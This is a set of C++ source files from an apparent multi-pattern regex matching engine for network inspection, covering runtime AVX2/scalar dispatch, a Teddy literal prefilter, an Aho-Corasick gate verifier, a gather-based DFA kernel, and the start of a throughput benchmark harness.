    // Pad idle lanes with lane 0 so the fixed-width kernel always runs 8:
    // the duplicate pointers stay readable for `chunk` bytes and their
    // states/accepts are ignored.
    const std::uint8_t* dptr[kLanes];
    std::uint32_t st[kLanes];
    for (std::size_t j = 0; j < kLanes; ++j) {
      const std::size_t src = j < active ? j : 0;
      dptr[j] = data[src] + pos[src];
      st[j] = state[src];
    }
    Hook hook{&accept, job_ix, base, pos, active};
    dense_block_avx2(
        table, ncols, cols, naccept, st, dptr, chunk,
        [](void* u, std::size_t lane, std::uint32_t s, std::size_t i) {
          auto* h = static_cast<Hook*>(u);
          if (lane >= h->active) return;
          (*h->fn)(h->job_ix[lane], s, h->base[lane] + h->pos[lane] + i);
        },
        &hook);
    for (std::size_t j = 0; j < active; ++j) {
      state[j] = st[j];
      pos[j] += chunk;
    }

    // Retire exhausted lanes (write the context back), compact, refill.
    std::size_t w = 0;
    for (std::size_t j = 0; j < active; ++j) {
      if (pos[j] == size[j]) {
        jobs[job_ix[j]].ctx->state = state[j];
        continue;
      }
      if (w != j) {
        state[w] = state[j];
        data[w] = data[j];
        pos[w] = pos[j];
        size[w] = size[j];
        base[w] = base[j];
        job_ix[w] = job_ix[j];
      }
      ++w;
    }
    active = w;
    fill();
  }
}

}  // namespace mfa::simd
