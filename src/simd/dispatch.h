// Runtime SIMD dispatch (DESIGN.md §13).
//
// All vector kernels in src/simd/ are compiled unconditionally (the AVX2
// translation unit carries its own -mavx2) and selected at runtime from
// cpuid, so one binary runs correctly on any x86-64 and on non-x86 hosts
// (where everything resolves to the scalar fallbacks). The `MFA_SIMD`
// environment variable overrides detection for testing both paths on the
// same machine:
//
//   MFA_SIMD=off | scalar   force the scalar kernels
//   MFA_SIMD=avx2           request AVX2 (silently falls back if the CPU
//                           lacks it — never crashes)
//
// `MFA_PREFILTER=off` (or `0`) disables the literal-prefilter gate
// independently of kernel selection (the quick-start knob in README.md).
#pragma once

namespace mfa::simd {

enum class Level {
  kScalar,  ///< portable fallback (no ISA requirements beyond the baseline)
  kAvx2,    ///< AVX2 shuffle/gather kernels
};

/// Raw cpuid capability (ignores MFA_SIMD); false on non-x86.
[[nodiscard]] bool cpu_has_avx2();

/// Effective kernel level: cpuid gated by the MFA_SIMD override. Computed
/// once, thread-safe.
[[nodiscard]] Level level();

/// Stable label for telemetry/bench reports ("avx2" / "scalar").
[[nodiscard]] const char* level_name();

/// True when MFA_PREFILTER=off|0 — the prefilter gate must stay inert.
[[nodiscard]] bool prefilter_env_disabled();

}  // namespace mfa::simd
