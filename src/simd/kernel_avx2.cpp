// The single -mavx2 translation unit (see src/simd/CMakeLists.txt). Nothing
// here runs unless simd::level() reported kAvx2 at runtime, so building with
// AVX2 codegen enabled for this file does not raise the binary's baseline
// ISA requirement.
#include "simd/kernel.h"

#ifdef MFA_SIMD_X86

#include <immintrin.h>

namespace mfa::simd {

void teddy_block_avx2(const TeddyTables& t, const std::uint8_t* data,
                      std::uint8_t res[32]) {
  const __m256i nib = _mm256_set1_epi8(0x0f);
  __m256i acc = _mm256_set1_epi8(static_cast<char>(0xff));
  for (int j = 0; j < t.positions; ++j) {
    const __m256i lo_tab = _mm256_broadcastsi128_si256(
        _mm_loadu_si128(reinterpret_cast<const __m128i*>(t.lo[j])));
    const __m256i hi_tab = _mm256_broadcastsi128_si256(
        _mm_loadu_si128(reinterpret_cast<const __m128i*>(t.hi[j])));
    // Position j of a candidate starting at lane i is byte data[i + j]:
    // reloading at the offset instead of shifting lanes keeps the kernel
    // free of cross-lane shuffles (the caller guarantees readability).
    const __m256i v =
        _mm256_loadu_si256(reinterpret_cast<const __m256i*>(data + j));
    const __m256i lo = _mm256_and_si256(v, nib);
    const __m256i hi = _mm256_and_si256(_mm256_srli_epi16(v, 4), nib);
    acc = _mm256_and_si256(acc, _mm256_and_si256(_mm256_shuffle_epi8(lo_tab, lo),
                                                 _mm256_shuffle_epi8(hi_tab, hi)));
  }
  _mm256_storeu_si256(reinterpret_cast<__m256i*>(res), acc);
}

bool teddy_scan_avx2(const TeddyTables& t, const std::uint8_t* data,
                     std::size_t len, std::size_t* pos, std::uint8_t* bucket) {
  const __m256i nib = _mm256_set1_epi8(0x0f);
  const __m256i zero = _mm256_setzero_si256();
  __m256i lo_tab[3];
  __m256i hi_tab[3];
  for (int j = 0; j < t.positions; ++j) {
    lo_tab[j] = _mm256_broadcastsi128_si256(
        _mm_loadu_si128(reinterpret_cast<const __m128i*>(t.lo[j])));
    hi_tab[j] = _mm256_broadcastsi128_si256(
        _mm_loadu_si128(reinterpret_cast<const __m128i*>(t.hi[j])));
  }
  const auto m = static_cast<std::size_t>(t.positions);
  std::size_t p = *pos;
  while (p + 32 + m - 1 <= len) {
    __m256i acc = _mm256_set1_epi8(static_cast<char>(0xff));
    for (int j = 0; j < t.positions; ++j) {
      const __m256i v =
          _mm256_loadu_si256(reinterpret_cast<const __m256i*>(data + p + j));
      const __m256i lo = _mm256_and_si256(v, nib);
      const __m256i hi = _mm256_and_si256(_mm256_srli_epi16(v, 4), nib);
      acc = _mm256_and_si256(acc,
                             _mm256_and_si256(_mm256_shuffle_epi8(lo_tab[j], lo),
                                              _mm256_shuffle_epi8(hi_tab[j], hi)));
    }
    const auto zmask = static_cast<std::uint32_t>(
        _mm256_movemask_epi8(_mm256_cmpeq_epi8(acc, zero)));
    if (zmask != 0xffffffffu) {
      const int l = __builtin_ctz(~zmask);
      alignas(32) std::uint8_t res[32];
      _mm256_store_si256(reinterpret_cast<__m256i*>(res), acc);
      *bucket = res[l];
      *pos = p + static_cast<std::size_t>(l);
      return true;
    }
    p += 32;
  }
  *pos = p;
  return false;
}

void dense_block_avx2(const std::uint32_t* table, std::uint32_t ncols,
                      const std::uint8_t* cols, std::uint32_t naccept,
                      std::uint32_t* states, const std::uint8_t* const* data,
                      std::size_t chunk, AcceptHook hook, void* uctx) {
  __m256i st = _mm256_loadu_si256(reinterpret_cast<const __m256i*>(states));
  const __m256i vncols = _mm256_set1_epi32(static_cast<int>(ncols));
  // Signed compares are exact here: states and naccept are bounded by the
  // DFA state cap (1<<20), far below 2^31.
  const __m256i vnacc = _mm256_set1_epi32(static_cast<int>(naccept));
  const std::uint8_t* d0 = data[0];
  const std::uint8_t* d1 = data[1];
  const std::uint8_t* d2 = data[2];
  const std::uint8_t* d3 = data[3];
  const std::uint8_t* d4 = data[4];
  const std::uint8_t* d5 = data[5];
  const std::uint8_t* d6 = data[6];
  const std::uint8_t* d7 = data[7];
  for (std::size_t i = 0; i < chunk; ++i) {
    const __m256i vcol = _mm256_setr_epi32(cols[d0[i]], cols[d1[i]], cols[d2[i]],
                                           cols[d3[i]], cols[d4[i]], cols[d5[i]],
                                           cols[d6[i]], cols[d7[i]]);
    const __m256i idx = _mm256_add_epi32(_mm256_mullo_epi32(st, vncols), vcol);
    st = _mm256_i32gather_epi32(reinterpret_cast<const int*>(table), idx, 4);
    const int am =
        _mm256_movemask_ps(_mm256_castsi256_ps(_mm256_cmpgt_epi32(vnacc, st)));
    if (am != 0) [[unlikely]] {
      alignas(32) std::uint32_t tmp[8];
      _mm256_store_si256(reinterpret_cast<__m256i*>(tmp), st);
      for (int l = 0; l < 8; ++l)
        if ((am >> l) & 1) hook(uctx, static_cast<std::size_t>(l), tmp[l], i);
    }
  }
  _mm256_storeu_si256(reinterpret_cast<__m256i*>(states), st);
}

}  // namespace mfa::simd

#else  // !MFA_SIMD_X86

#include <cstdlib>

namespace mfa::simd {

// Non-x86 stubs: dispatch never selects kAvx2 off x86, so reaching these is
// a dispatch bug — fail loudly rather than corrupt a scan.
void teddy_block_avx2(const TeddyTables&, const std::uint8_t*, std::uint8_t[32]) {
  std::abort();
}
bool teddy_scan_avx2(const TeddyTables&, const std::uint8_t*, std::size_t,
                     std::size_t*, std::uint8_t*) {
  std::abort();
}
void dense_block_avx2(const std::uint32_t*, std::uint32_t, const std::uint8_t*,
                      std::uint32_t, std::uint32_t*, const std::uint8_t* const*,
                      std::size_t, AcceptHook, void*) {
  std::abort();
}

}  // namespace mfa::simd

#endif
