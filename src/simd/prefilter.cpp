#include "simd/prefilter.h"

#include <array>
#include <deque>
#include <unordered_map>

#include "dfa/dfa.h"
#include "simd/dispatch.h"
#include "split/literals.h"
#include "split/splitter.h"

namespace mfa::simd {

namespace {

inline std::uint8_t fold_byte(std::uint8_t c, bool icase) {
  return icase && c >= 'A' && c <= 'Z' ? static_cast<std::uint8_t>(c + 32) : c;
}

/// Dense Aho-Corasick automaton over the (folded) literal set; small by
/// construction (<= kMaxLiterals * max_len + 1 states), so a full 256-wide
/// delta per state is cheap and keeps the verification walk branch-free.
struct AhoCorasick {
  std::vector<std::array<std::uint16_t, 256>> delta;
  std::vector<bool> hit;  ///< a literal ends at (or on the fail path of) s

  static std::optional<AhoCorasick> build(const std::vector<std::string>& lits) {
    AhoCorasick ac;
    std::vector<std::array<std::uint16_t, 256>> go(1);
    go[0].fill(0);
    std::vector<std::uint16_t> fail(1, 0);
    std::vector<bool> term(1, false);
    // Trie insertion; 0 doubles as "no edge" from non-root states (state 0
    // is the root, which is never a trie child).
    for (const std::string& lit : lits) {
      std::uint16_t s = 0;
      for (const char ch : lit) {
        const auto c = static_cast<std::uint8_t>(ch);
        std::uint16_t t = go[s][c];
        if (t == 0) {
          if (go.size() >= 0xffff) return std::nullopt;
          t = static_cast<std::uint16_t>(go.size());
          go.emplace_back();
          go.back().fill(0);
          fail.push_back(0);
          term.push_back(false);
          go[s][c] = t;
        }
        s = t;
      }
      term[s] = true;
    }
    // BFS fail links; convert goto into a total delta in place.
    ac.delta = go;
    ac.hit = term;
    std::deque<std::uint16_t> queue;
    for (int c = 0; c < 256; ++c) {
      const std::uint16_t t = go[0][static_cast<std::size_t>(c)];
      if (t != 0) {
        fail[t] = 0;
        queue.push_back(t);
      }
    }
    while (!queue.empty()) {
      const std::uint16_t s = queue.front();
      queue.pop_front();
      if (ac.hit[fail[s]]) ac.hit[s] = true;
      for (int c = 0; c < 256; ++c) {
        const std::uint16_t t = go[s][static_cast<std::size_t>(c)];
        if (t != 0) {
          fail[t] = ac.delta[fail[s]][static_cast<std::size_t>(c)];
          queue.push_back(t);
        } else {
          ac.delta[s][static_cast<std::size_t>(c)] =
              ac.delta[fail[s]][static_cast<std::size_t>(c)];
        }
      }
    }
    return ac;
  }
};

/// Gate proof artifacts produced by verify(): which DFA states may skip,
/// and which AC states each of them can be paired with (flattened lists).
struct GateProof {
  std::vector<bool> skippable;
  std::vector<std::uint32_t> cand_off;
  std::vector<std::uint16_t> cand;
};

/// The product-closure proof of gate properties (i)-(iii) — see the header
/// comment. Builds the FULL closure F of (AC, DFA) pairs reachable from
/// (root, start) over all bytes (loud edges included: real executions pass
/// through literal hits, and the per-state candidate sets must cover every
/// pair a flow can actually sit in at a chunk boundary). Then:
///
///   taint (property i): a pair with a quiet path to an accepting DFA
///   state could accept inside a literal-free chunk; its DFA state must
///   never skip. Computed by forward sweeps to a fixpoint.
///
///   ψ-determinism (property ii): over quiet edges walked from (root,
///   start) — the tail-replay path — and from every pair of a skippable
///   state — the gated-chunk paths — each target AC state must map to one
///   target DFA state. Loud-history pairs outside this sub-closure may
///   carry longer memory (e.g. progress past a mid-piece literal), which
///   is fine: taint already bars their states from skipping, and quiet
///   walks from skippable pairs can never reach them (that would take a
///   literal hit).
///
/// Work is O(|F| * 256) per sweep; F is capped, and our literal sets keep
/// it in the low thousands of pairs — microseconds at build time.
bool verify(const dfa::Dfa& d, const AhoCorasick& ac, bool icase,
            const char** why, GateProof* proof) {
  if (d.is_accepting(d.start())) {
    *why = "start-state-accepting";
    return false;
  }
  struct Pair {
    std::uint16_t a;
    std::uint32_t s;
  };
  constexpr std::size_t kMaxPairs = std::size_t{1} << 17;
  std::unordered_map<std::uint64_t, std::uint32_t> index;
  std::vector<Pair> pairs;
  const auto key_of = [](std::uint16_t a, std::uint32_t s) {
    return (static_cast<std::uint64_t>(a) << 32) | s;
  };
  const auto intern = [&](std::uint16_t a, std::uint32_t s) -> std::int64_t {
    const auto [it, fresh] =
        index.try_emplace(key_of(a, s), static_cast<std::uint32_t>(pairs.size()));
    if (fresh) {
      if (pairs.size() >= kMaxPairs) return -1;
      pairs.push_back(Pair{a, s});
    }
    return it->second;
  };
  (void)intern(0, d.start());
  for (std::size_t head = 0; head < pairs.size(); ++head) {
    const Pair p = pairs[head];  // by value: pairs reallocates below
    for (unsigned b = 0; b < 256; ++b) {
      const std::uint16_t a2 =
          ac.delta[p.a][fold_byte(static_cast<std::uint8_t>(b), icase)];
      const std::uint32_t s2 = d.next(p.s, static_cast<unsigned char>(b));
      if (intern(a2, s2) < 0) {
        *why = "product-too-large";
        return false;
      }
    }
  }

  // Taint: quiet-reachability of an accepting DFA state, swept forward to
  // a fixpoint (each sweep extends known taint one quiet edge backwards).
  std::vector<char> tainted(pairs.size(), 0);
  constexpr int kMaxSweeps = 256;
  int sweep = 0;
  for (bool changed = true; changed; ++sweep) {
    if (sweep == kMaxSweeps) {
      *why = "taint-unconverged";
      return false;
    }
    changed = false;
    for (std::size_t i = pairs.size(); i-- > 0;) {
      if (tainted[i]) continue;
      const Pair p = pairs[i];
      for (unsigned b = 0; b < 256; ++b) {
        const std::uint16_t a2 =
            ac.delta[p.a][fold_byte(static_cast<std::uint8_t>(b), icase)];
        if (ac.hit[a2]) continue;  // a literal completes: edge is loud
        const std::uint32_t s2 = d.next(p.s, static_cast<unsigned char>(b));
        if (d.is_accepting(s2) || tainted[index.at(key_of(a2, s2))]) {
          tainted[i] = 1;
          changed = true;
          break;
        }
      }
    }
  }

  // Candidate AC states per DFA state; skippable = non-accepting, present
  // in the closure, and no tainted pair.
  std::vector<std::vector<std::uint16_t>> cands(d.state_count());
  std::vector<bool> skippable(d.state_count(), false);
  for (std::size_t i = 0; i < pairs.size(); ++i)
    cands[pairs[i].s].push_back(pairs[i].a);
  for (std::uint32_t s = 0; s < d.state_count(); ++s)
    skippable[s] = !cands[s].empty() && !d.is_accepting(s);
  for (std::size_t i = 0; i < pairs.size(); ++i)
    if (tainted[i]) skippable[pairs[i].s] = false;

  // ψ-determinism over the quiet sub-closure W from (root, start) plus all
  // pairs of skippable states. Sources are exempt (the empty string pins
  // (root, start) to the start state, which quiet bytes never revisit);
  // every TARGET's DFA state must be a function of its AC state.
  constexpr std::uint32_t kUnset = 0xffffffffu;
  std::vector<std::uint32_t> psi(ac.delta.size(), kUnset);
  std::vector<char> in_w(pairs.size(), 0);
  std::deque<std::uint32_t> queue;
  const auto seed = [&](std::uint32_t i) {
    if (!in_w[i]) {
      in_w[i] = 1;
      queue.push_back(i);
    }
  };
  seed(static_cast<std::uint32_t>(index.at(key_of(0, d.start()))));
  for (std::size_t i = 0; i < pairs.size(); ++i)
    if (skippable[pairs[i].s]) seed(static_cast<std::uint32_t>(i));
  while (!queue.empty()) {
    const Pair p = pairs[queue.front()];
    queue.pop_front();
    for (unsigned b = 0; b < 256; ++b) {
      const std::uint16_t a2 =
          ac.delta[p.a][fold_byte(static_cast<std::uint8_t>(b), icase)];
      if (ac.hit[a2]) continue;
      const std::uint32_t s2 = d.next(p.s, static_cast<unsigned char>(b));
      if (psi[a2] == kUnset) {
        psi[a2] = s2;
      } else if (psi[a2] != s2) {
        *why = "state-not-function-of-tail";  // property (ii) fails
        return false;
      }
      seed(static_cast<std::uint32_t>(index.at(key_of(a2, s2))));
    }
  }

  proof->skippable = std::move(skippable);
  proof->cand_off.assign(d.state_count() + 1, 0);
  for (std::uint32_t s = 0; s < d.state_count(); ++s) {
    // Only skippable states need candidates at runtime (boundary walk).
    if (proof->skippable[s])
      for (const std::uint16_t a : cands[s]) proof->cand.push_back(a);
    proof->cand_off[s + 1] = static_cast<std::uint32_t>(proof->cand.size());
  }
  return true;
}

}  // namespace

Prefilter Prefilter::build(const dfa::Dfa& dfa,
                           const std::vector<split::Piece>& pieces, bool icase) {
  Prefilter p;
  if (prefilter_env_disabled()) {
    p.status_ = "env-off";
    return p;
  }
  if (pieces.empty()) {
    p.status_ = "no-pieces";
    return p;
  }
  std::vector<std::string> literals;
  for (const split::Piece& piece : pieces) {
    std::vector<std::string> alts =
        split::required_literal_factors(piece.regex.root);
    if (alts.empty()) {
      // Some piece has no required factor: a clean-looking chunk could
      // still complete it, so no literal set covers the whole DFA.
      p.status_ = "piece-without-literal";
      return p;
    }
    for (std::string& a : alts) literals.push_back(std::move(a));
    if (literals.size() > Teddy::kMaxLiterals) {
      p.status_ = "too-many-literals";
      return p;
    }
  }
  p.teddy_ = Teddy::compile(std::move(literals), icase);
  if (!p.teddy_.has_value()) {
    p.status_ = "teddy-compile-failed";
    return p;
  }
  p.window_ = p.teddy_->max_len() - 1;
  if (p.window_ == 0) {
    // Single-byte literals leave no tail to replay: the reconstructed
    // state would be the raw start state, which quiet bytes never revisit.
    p.status_ = "literals-too-short";
    return p;
  }

  // The Teddy matcher alone is now usable; arm the skip gate only if the
  // DFA-level proof succeeds (AC is built over the same folded literals
  // Teddy confirms against, so "quiet" here is exactly "matches() == false"
  // modulo Teddy's false positives, which only add scans).
  std::optional<AhoCorasick> ac = AhoCorasick::build(p.teddy_->literals());
  if (!ac.has_value()) {
    p.status_ = "ac-too-large";
    return p;
  }
  const char* why = nullptr;
  GateProof proof;
  if (!verify(dfa, *ac, icase, &why, &proof)) {
    p.status_ = why;
    return p;
  }
  p.ac_delta_ = std::move(ac->delta);
  p.ac_hit_ = std::move(ac->hit);
  p.skippable_ = std::move(proof.skippable);
  p.cand_off_ = std::move(proof.cand_off);
  p.cand_ = std::move(proof.cand);
  p.icase_ = icase;
  p.gate_ok_ = true;
  p.status_ = "ok";
  return p;
}

bool Prefilter::boundary_quiet(std::uint32_t dfa_state,
                               const std::uint8_t* data,
                               std::size_t size) const {
  const std::size_t head = std::min(window_, size);
  const std::uint32_t lo = cand_off_[dfa_state];
  const std::uint32_t hi = cand_off_[dfa_state + 1];
  for (std::uint32_t c = lo; c < hi; ++c) {
    std::uint16_t a = cand_[c];
    for (std::size_t i = 0; i < head; ++i) {
      a = ac_delta_[a][fold_byte(data[i], icase_)];
      if (ac_hit_[a]) return false;  // a literal completes across the seam
    }
  }
  return true;
}

}  // namespace mfa::simd
