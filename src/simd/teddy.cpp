#include "simd/teddy.h"

#include <algorithm>
#include <cstring>

#include "simd/dispatch.h"

namespace mfa::simd {

namespace {

inline std::uint8_t fold(std::uint8_t c) {
  return c >= 'A' && c <= 'Z' ? static_cast<std::uint8_t>(c + 32) : c;
}

}  // namespace

std::optional<Teddy> Teddy::compile(std::vector<std::string> literals, bool icase) {
  if (literals.empty() || literals.size() > kMaxLiterals) return std::nullopt;
  Teddy t;
  t.icase_ = icase;
  for (std::string& lit : literals) {
    if (lit.empty()) return std::nullopt;
    if (icase)
      for (char& c : lit) c = static_cast<char>(fold(static_cast<std::uint8_t>(c)));
  }
  std::sort(literals.begin(), literals.end());
  literals.erase(std::unique(literals.begin(), literals.end()), literals.end());
  t.lits_ = std::move(literals);

  t.min_len_ = t.lits_[0].size();
  t.max_len_ = 0;
  for (const std::string& lit : t.lits_) {
    t.min_len_ = std::min(t.min_len_, lit.size());
    t.max_len_ = std::max(t.max_len_, lit.size());
  }
  t.tables_.positions = static_cast<int>(std::min<std::size_t>(t.min_len_, 3));

  // Bucket by sorted rank: literals sharing a prefix land in the same
  // bucket, which keeps each bucket's nibble footprint tight.
  const std::size_t n = t.lits_.size();
  for (std::size_t k = 0; k < n; ++k) {
    const auto bucket = static_cast<std::uint8_t>(k * 8 / n);
    t.buckets_[bucket].push_back(static_cast<std::uint32_t>(k));
    const std::uint8_t bit = static_cast<std::uint8_t>(1u << bucket);
    for (int j = 0; j < t.tables_.positions; ++j) {
      const auto c = static_cast<std::uint8_t>(t.lits_[k][static_cast<std::size_t>(j)]);
      std::uint8_t variants[2] = {c, c};
      if (icase && c >= 'a' && c <= 'z')
        variants[1] = static_cast<std::uint8_t>(c - 32);
      for (const std::uint8_t v : variants) {
        t.tables_.lo[j][v & 0x0f] |= bit;
        t.tables_.hi[j][v >> 4] |= bit;
      }
    }
  }
  return t;
}

bool Teddy::confirm_at(const std::uint8_t* data, std::size_t len, std::size_t pos,
                       std::uint8_t buckets) const {
  while (buckets != 0) {
    const int b = __builtin_ctz(buckets);
    buckets = static_cast<std::uint8_t>(buckets & (buckets - 1));
    for (const std::uint32_t k : buckets_[static_cast<std::size_t>(b)]) {
      const std::string& lit = lits_[k];
      if (pos + lit.size() > len) continue;
      std::size_t q = 0;
      for (; q < lit.size(); ++q) {
        std::uint8_t d = data[pos + q];
        if (icase_) d = fold(d);
        if (d != static_cast<std::uint8_t>(lit[q])) break;
      }
      if (q == lit.size()) return true;
    }
  }
  return false;
}

// Scalar sweep of candidate start positions in [from, len - positions]:
// same nibble tables as the vector path, one position at a time.
bool Teddy::matches_range(const std::uint8_t* data, std::size_t len,
                          std::size_t from, std::size_t& budget) const {
  const auto m = static_cast<std::size_t>(tables_.positions);
  if (len < m) return false;
  for (std::size_t i = from; i + m <= len; ++i) {
    std::uint8_t acc = 0xff;
    for (std::size_t j = 0; j < m; ++j) {
      const std::uint8_t c = data[i + j];
      acc &= tables_.lo[j][c & 0x0f] & tables_.hi[j][c >> 4];
      if (acc == 0) break;
    }
    if (acc != 0) {
      if (budget-- == 0) return true;  // budget exhausted: report candidate
      if (confirm_at(data, len, i, acc)) return true;
    }
  }
  return false;
}

bool Teddy::matches(const std::uint8_t* data, std::size_t len) const {
  if (len < min_len_) return false;
  // Confirm budget: a clean buffer costs a handful of stray confirms; a
  // hostile one degenerates into "assume dirty" instead of quadratic work.
  std::size_t budget = 16 + len / 8;
  std::size_t pos = 0;
  if (level() == Level::kAvx2) {
    std::uint8_t bucket = 0;
    while (teddy_scan_avx2(tables_, data, len, &pos, &bucket)) {
      if (budget-- == 0) return true;
      if (confirm_at(data, len, pos, bucket)) return true;
      ++pos;
    }
  }
  return matches_range(data, len, pos, budget);
}

}  // namespace mfa::simd
