#include "simd/dispatch.h"

#include <cstdlib>
#include <cstring>

namespace mfa::simd {

bool cpu_has_avx2() {
#if defined(__x86_64__) || defined(_M_X64) || defined(__i386__)
  return __builtin_cpu_supports("avx2") != 0;
#else
  return false;
#endif
}

namespace {

Level detect() {
  const char* env = std::getenv("MFA_SIMD");
  if (env != nullptr) {
    if (std::strcmp(env, "off") == 0 || std::strcmp(env, "scalar") == 0)
      return Level::kScalar;
    if (std::strcmp(env, "avx2") == 0)
      return cpu_has_avx2() ? Level::kAvx2 : Level::kScalar;
    // Unknown value: fall through to auto-detection.
  }
  return cpu_has_avx2() ? Level::kAvx2 : Level::kScalar;
}

}  // namespace

Level level() {
  static const Level cached = detect();
  return cached;
}

const char* level_name() { return level() == Level::kAvx2 ? "avx2" : "scalar"; }

bool prefilter_env_disabled() {
  static const bool off = [] {
    const char* env = std::getenv("MFA_PREFILTER");
    return env != nullptr &&
           (std::strcmp(env, "off") == 0 || std::strcmp(env, "0") == 0);
  }();
  return off;
}

}  // namespace mfa::simd
