// Raw AVX2 kernel entry points (implemented in kernel_avx2.cpp, the one
// translation unit built with -mavx2). Callers MUST check
// simd::level() == Level::kAvx2 before calling — on a CPU without AVX2 these
// would fault, and the non-x86 build stubs them out with abort().
//
// The interfaces are deliberately flat (raw pointers, C function-pointer
// hooks) so the AVX2 TU stays template-free: all templated glue lives in
// headers compiled without -mavx2 (dense_scan.h, teddy.h) and the ISA
// surface is confined to this pair of files.
#pragma once

#include <cstddef>
#include <cstdint>

namespace mfa::simd {

#if defined(__x86_64__) || defined(_M_X64) || defined(__i386__)
#define MFA_SIMD_X86 1
#endif

/// Teddy nibble-mask tables: for mask position j and nibble value n,
/// lo[j][n] / hi[j][n] are 8-bit bucket masks — bit b set means some literal
/// in bucket b has a byte at position j whose low/high nibble is n. A byte
/// matches position j for bucket b iff bit b survives the AND of its two
/// nibble lookups; a *position* is a candidate iff some bucket bit survives
/// the AND across all `positions` consecutive bytes.
struct TeddyTables {
  std::uint8_t lo[3][16] = {};
  std::uint8_t hi[3][16] = {};
  int positions = 0;  ///< mask positions in use: 1..3
};

/// One 32-byte Teddy block: res[i] = surviving bucket mask for a candidate
/// starting at data[i] (0 = no candidate). Requires 32 + positions - 1
/// readable bytes at `data`.
void teddy_block_avx2(const TeddyTables& t, const std::uint8_t* data,
                      std::uint8_t res[32]);

/// Streaming Teddy sweep: scan 32-byte blocks starting at *pos while
/// *pos + 32 + positions - 1 <= len. On the first candidate, write its
/// surviving bucket mask to *bucket, set *pos to the candidate position and
/// return true; the caller confirms scalar-side and resumes at *pos + 1.
/// Returns false with *pos at the first unscanned block start otherwise —
/// keeping the whole per-block loop inside the -mavx2 TU costs one call per
/// buffer instead of one per block (the difference is ~3x on dirty traffic).
bool teddy_scan_avx2(const TeddyTables& t, const std::uint8_t* data,
                     std::size_t len, std::size_t* pos, std::uint8_t* bucket);

/// Accept hook for the gather kernel: (uctx, lane, state, byte_index).
using AcceptHook = void (*)(void*, std::size_t, std::uint32_t, std::size_t);

/// Advance 8 lanes exactly `chunk` bytes through a dense row-major u32
/// transition table with AVX2 gathers: per step, the 8 lanes' next-state
/// loads issue as one gather, so their dependent chains overlap in the
/// memory system (same motivation as scan::interleaved_scan, minus the
/// scalar address arithmetic). states[8] is read and written back; data[8]
/// are per-lane byte pointers (already offset). `hook` fires for every
/// accepting state entered (state < naccept), in lane order within a step.
void dense_block_avx2(const std::uint32_t* table, std::uint32_t ncols,
                      const std::uint8_t* cols, std::uint32_t naccept,
                      std::uint32_t* states, const std::uint8_t* const* data,
                      std::size_t chunk, AcceptHook hook, void* uctx);

}  // namespace mfa::simd
