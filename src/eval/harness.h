// Evaluation harness shared by the bench binaries (paper Sec. V).
//
// Builds all five engines for a pattern set with uniform stats (build time,
// state count, memory image) and measures matching throughput in cycles per
// byte over multiplexed traces, via the same rdtsc methodology the paper
// describes in Sec. V-B.
#pragma once

#include <algorithm>
#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "dfa/dfa.h"
#include "flow/flow.h"
#include "hfa/hfa.h"
#include "mfa/mfa.h"
#include "nfa/nfa.h"
#include "obs/metrics.h"
#include "patterns/builtin.h"
#include "pipeline/pipeline.h"
#include "trace/trace.h"
#include "util/timing.h"
#include "xfa/xfa.h"

namespace mfa::eval {

struct EngineBuild {
  bool ok = false;
  double seconds = 0.0;
  std::size_t image_bytes = 0;
  std::uint32_t states = 0;
};

struct SuiteOptions {
  /// Subset-construction cap for the plain-DFA baseline; exceeding it is
  /// reported as "failed to construct" (the paper's B217p outcome).
  std::uint32_t dfa_max_states = 500000;
  /// Cap for the decomposed-piece DFA inside MFA/HFA/XFA.
  std::uint32_t mfa_max_states = 500000;
  bool build_dfa = true;
  bool build_hfa = true;
  bool build_xfa = true;
  split::Options split;
};

/// Every engine built for one pattern set, with uniform build stats.
struct Suite {
  std::string set_name;
  std::vector<nfa::PatternInput> patterns;

  nfa::Nfa nfa;
  EngineBuild nfa_build;
  std::optional<dfa::Dfa> dfa;
  EngineBuild dfa_build;
  std::optional<core::Mfa> mfa;
  EngineBuild mfa_build;
  core::BuildStats mfa_stats;
  std::optional<hfa::Hfa> hfa;
  EngineBuild hfa_build;
  std::optional<xfa::Xfa> xfa;
  EngineBuild xfa_build;
};

Suite build_suite(const patterns::PatternSet& set, const SuiteOptions& options = {});

/// Strings sampled from the set's pattern languages, for injecting
/// attack-like content into synthetic real-life traces.
std::vector<std::string> attack_exemplars(const patterns::PatternSet& set,
                                          std::size_t per_pattern, std::uint64_t seed);

struct Throughput {
  double cycles_per_byte = 0.0;
  std::uint64_t matches = 0;     ///< confirmed matches in the final repetition
  std::size_t flows = 0;         ///< flows tracked by the inspector
};

/// Scan a trace through the flow inspector and report cycles per payload
/// byte. The engine is shared (immutable); each repetition starts from a
/// fresh flow table of per-flow Contexts. `reps` repetitions amortize
/// timer noise; the first rep warms the caches and is excluded when
/// reps > 1. Passing `metrics` attaches telemetry (shard slot 0) for every
/// repetition — the measurement then includes instrumentation cost, so use
/// it for observability runs, not for headline CpB numbers.
template <typename EngineT, template <typename> class InspectorT = flow::FlowInspector>
Throughput measure_throughput(const EngineT& engine, const trace::Trace& trace,
                              int reps = 2, obs::MetricsRegistry* metrics = nullptr) {
  Throughput result;
  std::uint64_t cycles = 0;
  int timed_reps = 0;
  for (int rep = 0; rep < reps; ++rep) {
    InspectorT<EngineT> inspector(engine);
    if (metrics != nullptr) inspector.set_metrics(metrics, 0);
    CountingSink sink;
    const std::uint64_t start = util::rdtsc_now();
    trace.for_each_packet([&](const flow::Packet& p) { inspector.packet(p, sink); });
    const std::uint64_t elapsed = util::rdtsc_now() - start;
    const bool warmup = reps > 1 && rep == 0;
    if (!warmup) {
      cycles += elapsed;
      ++timed_reps;
    }
    result.matches = sink.count;
    result.flows = inspector.flow_count();
  }
  if (trace.payload_bytes() > 0 && timed_reps > 0) {
    result.cycles_per_byte = static_cast<double>(cycles) /
                             (static_cast<double>(timed_reps) *
                              static_cast<double>(trace.payload_bytes()));
  }
  return result;
}

/// Scan a trace through FlowInspector::packet_batch in fixed-size bursts
/// and report cycles per payload byte. `lanes` is the interleave width K of
/// the engine's feed_many kernel (1 degenerates to the sequential scan
/// loop, so a lanes sweep isolates the memory-level-parallelism win);
/// `burst` is how many packets each packet_batch call sees. Matches and
/// reassembly semantics are identical to measure_throughput by the batching
/// contract (DESIGN.md Sec. 7).
template <typename EngineT, template <typename> class InspectorT = flow::FlowInspector>
Throughput measure_batched_throughput(const EngineT& engine, const trace::Trace& trace,
                                      std::size_t lanes, std::size_t burst = 64,
                                      int reps = 2) {
  std::vector<flow::Packet> packets;
  packets.reserve(trace.packet_count());
